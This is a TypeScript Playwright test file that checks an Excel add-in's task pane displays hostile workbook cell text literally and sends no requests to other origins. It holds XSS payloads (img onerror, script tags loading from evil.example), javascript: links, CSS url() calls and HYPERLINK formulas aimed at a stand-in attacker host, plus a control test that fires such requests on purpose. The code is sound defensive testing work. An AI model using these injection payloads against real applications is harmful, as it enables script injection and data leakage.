/**
 * Nothing leaves the workbook, proved in headless Chromium: the sample plan (the Excel test
 * double loaded from samples/improvement-plan.xlsx) with hostile text planted in its action,
 * comment, timescale and lead cells (markup that would load an image or a script, `javascript:`
 * as text and as the cell's hyperlink, a HYPERLINK formula to another site, CSS `url(...)`),
 * driven through load, build summary, flag and selecting actions. Every request is watched
 * three ways: Playwright's request events (and a route that aborts anything not on the test
 * server's origin), Chromium's own network log over CDP (which also lists requests the CSP
 * blocked before they were sent), and the page's securitypolicyviolation events.
 * A control test shows that these watchers do see an attempt when one is made.
 */
import { join } from "path";
import type { Browser, BrowserContext, CDPSession, Page } from "playwright-core";
import { ROOT, buildPane, launchChromium, serve, type StaticServer } from "./harness";
import { modelFromXlsx } from "../double/from-xlsx";
import { cloneModel, findSheet, type CellModel, type WorkbookModel } from "../double";

jest.setTimeout(300_000);

const PLAN_SHEET = "Improvement Plan";
const SUMMARY_SHEET = "Committee Summary";
/** Its own build folder: pane.test.ts builds into the default one at the same time. */
const OUT = join(ROOT, ".tmp/e2e-leaks/dist");
const EVIL = "evil.example";

let server: StaticServer;
let browser: Browser;
let baseModel: WorkbookModel;

beforeAll(async () => {
  await buildPane(OUT);
  baseModel = await modelFromXlsx(join(ROOT, "samples/improvement-plan.xlsx"));
  server = await serve(OUT);
  browser = await launchChromium();
}, 600_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

// ---- The planted cells ------------------------------------------------------------------------

/** Plan columns (1-based), as in the sample's header row. */
const COL = { comments: 4, action: 5, timescale: 6, lead: 7 };

const IMG_ACTION = `<img src=x onerror="window.__pwned='img';alert('img')">`;
const SCRIPT_LEAD = `<script src=https://${EVIL}/x.js></script>`;
const CSS_COMMENT = `<div style="background:url(https://${EVIL}/comment.png)">url(https://${EVIL}/c.png)</div>`;
const JS_ACTION = "javascript:alert(1)";
const CSS_LEAD = `background-image: url(https://${EVIL}/lead.png)`;
const HYPERLINK_FORMULA = `=HYPERLINK("https://${EVIL}","click")`;
const HYPERLINK_TEXT = `=HYPERLINK("https://${EVIL}/x","text")`;
const SCRIPT_COMMENT = `<script>window.__pwned='script'</script>`;
const IMG_TIMESCALE = `<img src=https://${EVIL}/t.png onerror=alert(2)>`;
const CSS_TIMESCALE = `url(https://${EVIL}/t.png)`;
const JS_TIMESCALE = "javascript:alert(3)";

interface Planted {
  row: number;
  cells: Partial<Record<keyof typeof COL, CellModel>>;
  /** The action's text as the pane shows it (a formula shows its value). */
  shownAction: string;
  /** Where it is listed: overdue (a past date, so always overdue as at today) or no date. */
  list: "overdue-list" | "no-date-list";
}

/** Rows of the sample replaced by one action each, so each lands in a known list. */
const PLANTED: Planted[] = [
  {
    row: 8,
    cells: {
      action: { v: IMG_ACTION },
      timescale: { v: "June 2006" },
      lead: { v: SCRIPT_LEAD },
      comments: { v: CSS_COMMENT },
    },
    shownAction: IMG_ACTION,
    list: "overdue-list",
  },
  {
    row: 9,
    cells: {
      action: { v: JS_ACTION, link: { address: JS_ACTION } },
      timescale: { v: "September 2006", link: { address: `https://${EVIL}/timescale` } },
      lead: { v: CSS_LEAD },
      comments: { v: SCRIPT_COMMENT },
    },
    shownAction: JS_ACTION,
    list: "overdue-list",
  },
  {
    row: 15,
    cells: {
      // A HYPERLINK formula to another site; Excel hands the pane its cached value, "click".
      action: { f: HYPERLINK_FORMULA, v: "click" },
      timescale: { v: "October 2006" },
      lead: { v: `<a href="https://${EVIL}/lead">Head of Service</a>` },
    },
    shownAction: "click",
    list: "overdue-list",
  },
  {
    row: 10,
    cells: {
      // The same formula typed as text (Excel keeps it with a leading apostrophe).
      action: { v: HYPERLINK_TEXT, quotePrefix: true },
      timescale: { v: IMG_TIMESCALE },
    },
    shownAction: HYPERLINK_TEXT,
    list: "no-date-list",
  },
  {
    row: 11,
    cells: { action: { v: "Agree the joint operational model" }, timescale: { v: CSS_TIMESCALE } },
    shownAction: "Agree the joint operational model",
    list: "no-date-list",
  },
  {
    row: 7,
    cells: {
      action: { v: "Train employees in recording practice" },
      timescale: { v: JS_TIMESCALE, link: { address: JS_TIMESCALE } },
    },
    shownAction: "Train employees in recording practice",
    list: "no-date-list",
  },
];

/** The texts that must appear in the pane exactly as typed, wherever the pane shows them. */
const SHOWN_TEXTS = [
  IMG_ACTION,
  JS_ACTION,
  "click",
  HYPERLINK_TEXT,
  `Lead: ${SCRIPT_LEAD}`,
  `Lead: ${CSS_LEAD}`,
  `Lead: <a href="https://${EVIL}/lead">Head of Service</a>`,
  `“${IMG_TIMESCALE}”`,
  `“${CSS_TIMESCALE}”`,
  `“${JS_TIMESCALE}”`,
];

function hostileModel(): WorkbookModel {
  const model = cloneModel(baseModel);
  const sheet = findSheet(model, PLAN_SHEET)!;
  for (const p of PLANTED) {
    for (const [name, cell] of Object.entries(p.cells)) {
      const key = `${p.row}:${COL[name as keyof typeof COL]}`;
      const { v: _v, f: _f, link: _l, quotePrefix: _q, ...format } = sheet.cells[key] ?? {};
      sheet.cells[key] = { ...format, ...cell };
    }
  }
  return model;
}

// ---- Opening the pane with every watcher on -----------------------------------------------------

interface Watched {
  page: Page;
  context: BrowserContext;
  /** Every request Playwright saw the page make. */
  requests: string[];
  /** Requests to another origin, which the route aborted. */
  aborted: string[];
  /** Every request in Chromium's network log (CDP), including those the CSP blocked. */
  network: string[];
  /** Network log entries that failed because something blocked them, with the reason. */
  networkBlocked: string[];
  /** The page's Content-Security-Policy violation reports. */
  violations: () => Promise<string[]>;
  dialogs: string[];
  pageErrors: string[];
  /** New pages or windows opened from this one. */
  popups: string[];
  /** Every URL the main frame navigated to. */
  navigations: string[];
}

interface LeakWindow {
  __PLAN_MODEL__: WorkbookModel;
  __OFFICE_THEME__: string;
  __csp: string[];
  __pwned?: string;
  __double: { model: WorkbookModel };
}

async function openWatched(model: WorkbookModel): Promise<Watched> {
  const context = await browser.newContext({
    viewport: { width: 450, height: 900 },
    locale: "en-GB",
    reducedMotion: "reduce", // panels open at once, so clicks land where they are aimed
  });
  const page = await context.newPage();
  const cdp: CDPSession = await context.newCDPSession(page);
  const w: Watched = {
    page,
    context,
    requests: [],
    aborted: [],
    network: [],
    networkBlocked: [],
    violations: () =>
      page
        .evaluate(() => [...(window as unknown as LeakWindow).__csp])
        .catch(() => ["(page gone)"]),
    dialogs: [],
    pageErrors: [],
    popups: [],
    navigations: [],
  };
  const urls = new Map<string, string>();
  await cdp.send("Network.enable");
  cdp.on("Network.requestWillBeSent", (e) => {
    urls.set(e.requestId, e.request.url);
    w.network.push(e.request.url);
  });
  cdp.on("Network.loadingFailed", (e) => {
    if (e.blockedReason || e.corsErrorStatus)
      w.networkBlocked.push(`${e.blockedReason ?? "cors"} ${urls.get(e.requestId) ?? "?"}`);
  });
  await context.route("**/*", (route) => {
    const url = route.request().url();
    if (url.startsWith(server.origin + "/")) return route.continue();
    w.aborted.push(url);
    return route.abort();
  });
  page.on("request", (r) => w.requests.push(r.url()));
  page.on("pageerror", (e) => w.pageErrors.push(e.message));
  page.on("dialog", (d) => {
    w.dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  page.on("popup", (p) => w.popups.push(p.url()));
  context.on("page", (p) => {
    if (p !== page) w.popups.push(p.url());
  });
  page.on("framenavigated", (f) => {
    if (f === page.mainFrame()) w.navigations.push(f.url());
  });
  await page.addInitScript((m) => {
    const win = window as unknown as LeakWindow;
    win.__PLAN_MODEL__ = m;
    win.__OFFICE_THEME__ = "light";
    win.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      win.__csp.push(`${e.violatedDirective} ${e.blockedURI}`)
    );
  }, model);
  await page.goto(`${server.origin}/taskpane.html`);
  await page.getByRole("button", { name: "Build committee summary" }).waitFor();
  await page.getByText("Reading the workbook…").waitFor({ state: "detached" });
  return w;
}

/** Nothing asked of another origin by any route, nothing blocked, no dialog, no script error. */
async function expectNothingLeft(w: Watched): Promise<void> {
  const foreign = (urls: string[]) =>
    urls.filter((u) => !u.startsWith(server.origin + "/") && !u.startsWith("data:"));
  expect(w.requests.length).toBeGreaterThan(0);
  expect(w.network.length).toBeGreaterThan(0); // the CDP log is really on
  expect(foreign(w.requests)).toEqual([]);
  expect(foreign(w.network)).toEqual([]);
  expect(w.aborted).toEqual([]);
  expect(w.networkBlocked).toEqual([]);
  expect(await w.violations()).toEqual([]);
  expect([...w.requests, ...w.network].filter((u) => u.includes(EVIL))).toEqual([]);
  expect(w.dialogs).toEqual([]);
  expect(w.pageErrors).toEqual([]);
  expect(w.popups).toEqual([]);
  expect(w.navigations).toEqual([`${server.origin}/taskpane.html`]);
  expect(w.page.url()).toBe(`${server.origin}/taskpane.html`);
}

/** The page made no element from the planted text: no image, script, frame, link or handler. */
async function expectNoMarkupMade(page: Page): Promise<void> {
  const dom = await page.evaluate((evil) => {
    const all = [...document.querySelectorAll<HTMLElement>("*")];
    return {
      pwned: (window as unknown as LeakWindow).__pwned ?? null,
      images: document.querySelectorAll("img, picture, image, video, audio, source").length,
      scripts: [...document.scripts].map((s) => s.getAttribute("src") ?? "(inline)"),
      frames: document.querySelectorAll("iframe, frame, object, embed, form, base, link").length,
      links: [...document.querySelectorAll("a[href], area[href]")].map((a) =>
        a.getAttribute("href")
      ),
      handlers: all.flatMap((el) =>
        [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)
      ),
      urls: all
        .map((el) => {
          const cs = getComputedStyle(el);
          return [cs.backgroundImage, cs.borderImageSource, cs.listStyleImage, cs.content].join(
            " "
          );
        })
        .filter((s) => s.includes(evil)),
      evilAttributes: all.flatMap((el) =>
        [...el.attributes]
          .filter((a) => a.value.includes(evil))
          .map((a) => `${el.tagName} ${a.name}`)
      ),
    };
  }, EVIL);
  expect(dom).toEqual({
    pwned: null,
    images: 0,
    // The page's own three: the double (in Office.js's place), the functions and the pane.
    scripts: ["/office-double.js", "functions.js", "taskpane.js"],
    frames: 0,
    links: [],
    handlers: [],
    urls: [],
    // No attribute carries planted text (the action buttons' titles name the cell, not the text).
    evilAttributes: [],
  });
}

/** The plan's planted texts, each shown exactly as typed. */
async function expectShownAsText(page: Page): Promise<void> {
  const text = await page.locator("main").innerText();
  for (const shown of SHOWN_TEXTS)
    expect({ shown, found: text.includes(shown) }).toEqual({ shown, found: true });
  for (const p of PLANTED) {
    const button = page
      .getByTestId(p.list)
      .getByRole("button", { name: p.shownAction, exact: true });
    expect({ action: p.shownAction, count: await button.count() }).toEqual({
      action: p.shownAction,
      count: 1,
    });
    expect(await button.textContent()).toBe(p.shownAction);
  }
}

async function modelOf(page: Page): Promise<WorkbookModel> {
  return page.evaluate(() =>
    JSON.parse(JSON.stringify((window as unknown as LeakWindow).__double.model))
  );
}

// ---- The tests --------------------------------------------------------------------------------

describe("hostile text in the plan's cells", () => {
  test("is shown as plain text through load, build summary, flag and select, and nothing leaves the page", async () => {
    const w = await openWatched(hostileModel());
    const { page } = w;

    // Load: the lists show the planted actions, timescales and leads as typed.
    await page.getByTestId("overdue-list").waitFor();
    await page.getByTestId("no-date-list").waitFor();
    await expectShownAsText(page);
    await expectNoMarkupMade(page);

    // Build the committee summary.
    await page.getByRole("button", { name: "Build committee summary" }).click();
    await page.getByTestId("notice").filter({ hasText: "Committee summary written" }).waitFor();
    await expectShownAsText(page);
    await expectNoMarkupMade(page);

    // Flag overdue.
    await page.getByRole("button", { name: "Flag overdue in plan" }).click();
    await page
      .getByTestId("notice")
      .filter({ hasText: /^Flagged/ })
      .waitFor();
    await expectNoMarkupMade(page);

    // Each planted action's link selects its own cell in the plan, and goes nowhere else.
    for (const p of PLANTED) {
      await page
        .getByTestId(p.list)
        .getByRole("button", { name: p.shownAction, exact: true })
        .click();
      await page.waitForFunction(
        (row) =>
          new RegExp(`E\\$?${row}$`).test(
            (window as unknown as LeakWindow).__double.model.selection ?? ""
          ),
        p.row
      );
      expect((await modelOf(page)).selection).toMatch(
        new RegExp(`^'?${PLAN_SHEET}'?!\\$?E\\$?${p.row}$`)
      );
    }
    await page.waitForTimeout(500); // let any late request, dialog or navigation show itself
    await expectNoMarkupMade(page);
    await expectNothingLeft(w);

    // In the summary sheet the planted texts went in as text: no formula, and every link in it
    // points back into the plan, never to an address.
    const summary = findSheet(await modelOf(page), SUMMARY_SHEET);
    expect(summary).toBeDefined();
    const cells = Object.values(summary!.cells);
    for (const text of [IMG_ACTION, JS_ACTION, "click", HYPERLINK_TEXT]) {
      const cell = cells.find((c) => c.v === text);
      expect({ text, written: cell !== undefined }).toEqual({ text, written: true });
      expect(cell!.f).toBeUndefined();
    }
    expect(cells.filter((c) => c.f !== undefined && c.f.includes(EVIL))).toEqual([]);
    const links = cells.flatMap((c) => (c.link ? [c.link] : []));
    expect(links.length).toBeGreaterThan(0);
    expect(links.filter((l) => l.address !== undefined)).toEqual([]);
    for (const l of links)
      expect(l.documentReference).toMatch(/^'Improvement Plan'!\$?[A-Z]+\$?\d+$/);
    await w.context.close();
  });
});

describe("the watchers can fail", () => {
  test("an image, a fetch, a javascript: link and a navigation to another origin are each caught", async () => {
    const w = await openWatched(cloneModel(baseModel));
    const { page } = w;
    // What the pane must never do with plan text, done here on purpose.
    await page.evaluate((evil) => {
      const img = document.createElement("img");
      img.src = `https://${evil}/probe.png`;
      document.body.appendChild(img);
      void fetch(`https://${evil}/probe`).catch(() => undefined);
      const a = document.createElement("a");
      a.href = "javascript:window.__pwned='link'";
      document.body.appendChild(a);
      a.click();
    }, EVIL);
    await page.waitForFunction(() => (window as unknown as LeakWindow).__csp.length >= 3);
    const violations = await w.violations();
    expect(violations).toEqual(
      expect.arrayContaining([
        `img-src https://${EVIL}/probe.png`,
        `connect-src https://${EVIL}/probe`,
        expect.stringMatching(/^script-src(-elem)? inline$/),
      ])
    );
    // Chromium's network log lists the image the CSP stopped, with the reason. (A fetch the CSP
    // stops never reaches the network log: only the violation report shows it, hence both.)
    for (let i = 0; i < 50 && w.networkBlocked.length === 0; i++) await page.waitForTimeout(100);
    expect(w.networkBlocked).toEqual([`csp https://${EVIL}/probe.png`]);
    expect(w.network).toContain(`https://${EVIL}/probe.png`);
    expect(await page.evaluate(() => (window as unknown as LeakWindow).__pwned ?? null)).toBeNull();
    // The DOM check sees the image and the link planted above.
    await expect(expectNoMarkupMade(page)).rejects.toThrow(/images|links/);

    // A top-level navigation is not governed by the CSP: the route catches it, and Playwright's
    // request events see it. This is why the test above also holds the pane's links to selecting.
    await page
      .evaluate((evil) => {
        window.location.href = `https://${evil}/away`;
      }, EVIL)
      .catch(() => undefined);
    for (let i = 0; i < 50 && w.aborted.length === 0; i++) await page.waitForTimeout(100);
    expect(w.aborted).toEqual([`https://${EVIL}/away`]);
    expect(w.requests).toContain(`https://${EVIL}/away`);
    // And the whole-page check fails on all of this.
    await expect(expectNothingLeft(w)).rejects.toThrow();
    await w.context.close();
  });
});
